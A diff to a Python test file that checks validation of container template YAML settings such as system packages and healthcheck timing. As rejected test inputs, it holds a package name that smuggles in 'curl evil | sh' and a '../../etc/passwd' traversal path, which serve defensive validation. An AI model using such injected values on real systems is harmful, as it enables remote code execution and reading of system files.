@@ -54,6 +54,16 @@ def test_defaults_apply_for_optional_keys(tdir: Path) -> None:
     tpl = get_template("bare")
     assert tpl.base_image == "python:3.11-slim" and tpl.requirements == "requirements.txt"
     assert tpl.model_patterns == () and tpl.extra is None and tpl.description == ""
+    assert tpl.system_packages == () and tpl.healthcheck_start_period == "60s" and not tpl.has_own_dockerfile
+
+
+def test_image_data_is_typed(tdir: Path) -> None:
+    make(tdir, "jvm", GOOD.format(name="jvm") + "system_packages: [openjdk-17-jre-headless, 'libfoo1=1.2-3']\n"
+         "healthcheck_start_period: 90\n")
+    tpl = get_template("jvm")
+    assert tpl.system_packages == ("openjdk-17-jre-headless", "libfoo1=1.2-3")
+    assert tpl.healthcheck_start_period == "90s"  # a bare number is seconds
+    assert tpl.to_dict()["system_packages"] == ["openjdk-17-jre-headless", "libfoo1=1.2-3"]
 
 
 def test_unknown_template_lists_known_names(tdir: Path) -> None:
@@ -72,6 +82,9 @@ def test_unknown_template_lists_known_names(tdir: Path) -> None:
     ("name: x\nkind: model\nentrypoint: h:M\nmodel_patterns: 3\n", "model_patterns"),
     ("name: x\nkind: model\nentrypoint: h:M\nrequirements: ../../etc/passwd\n", "requirements"),
     ("name: y\nkind: model\nentrypoint: h:M\n", "name"),
+    ("name: x\nkind: model\nentrypoint: h:M\nsystem_packages: ['libgomp1; curl evil | sh']\n", "system_packages"),
+    ("name: x\nkind: model\nentrypoint: h:M\nsystem_packages: {a: 1}\n", "system_packages"),
+    ("name: x\nkind: model\nentrypoint: h:M\nhealthcheck_start_period: soon\n", "healthcheck_start_period"),
 ])
 def test_bad_template_yml_names_the_key(tdir: Path, text: str, key: str) -> None:
     make(tdir, "x", text)
